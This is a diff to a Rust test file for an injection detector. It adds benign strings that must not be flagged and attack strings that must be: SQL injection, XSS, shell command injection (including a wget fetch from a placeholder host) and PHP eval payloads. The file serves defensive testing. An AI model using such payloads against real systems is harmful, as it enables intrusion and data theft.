@@ -33,10 +33,24 @@ fn honest_words_pass() {
             "{\"wide\":{\"x\":4,\"row\":1}}",
             "text/html,application/xml;q=0.9,image/webp,*/*;q=0.8",
             "\"select specialty clinic\"",
+            "a union of the select few",
+            "JavaScript: notes for a first course",
+            "zsh is what we teach here",
+            "Perl module for reading lists of ships",
+            "It rains; sort should wait, then",
+            "Read it on the command line with care; time is short",
+            "query Q($k: ID!) { user(id: $k) { name } }",
+            "Read [our notes](https://notes.example/a#b), or [CHANGES.md](CHANGES.md)",
+            "It calls `ship-tool update --all-ports x`, and its `Hull::new(4)` type. Sort it",
+            "Мир и покой, и море, но не война",
+            "B. Smith <bs@post.example.com> (https://smith.example/)",
+            "60% wool and 40% silk",
+            "Put it on the file (with or without a lid), and on the small red command line of it",
         ] {
             assert_eq!(json(text).inspect_by(&detector), [], "{text}");
         }
         assert_eq!(Sample::get("/?q=%22select%20two%20colours%22").inspect_by(&detector), []);
+        assert_eq!(Sample::get("/?q=jane+and@post.example.com").inspect_by(&detector), []);
     }
 }
 
@@ -50,6 +64,16 @@ fn their_neighbours_do_not() {
             ("Use `id` here; ls -la", Attack::Cmdi),
             ("\" union select a, b from c --", Attack::Sqli),
             ("1' or '1'='1", Attack::Sqli),
+            ("1 union all select user()", Attack::Sqli),
+            ("x' or user() like 'a%", Attack::Sqli),
+            ("javascript:alert(document.domain)", Attack::Xss),
+            ("zsh is -c id", Attack::Cmdi),
+            ("perl -e 'print 1'", Attack::Cmdi),
+            ("It rains; wget -q x.example/y", Attack::Cmdi),
+            ("$x[0](system)", Attack::CodeInjection),
+            ("ļscript >ļ/script >ľ", Attack::Xss),
+            ("file (with or without a lid); eval($_GET[1])", Attack::CodeInjection),
+            ("the time is up; wget -q x.example/y", Attack::Cmdi),
         ] {
             let found: Vec<_> = json(text).inspect_by(&detector).iter().map(|found| found.attack).collect();
             assert!(found.contains(&attack), "{text}: {found:?}");
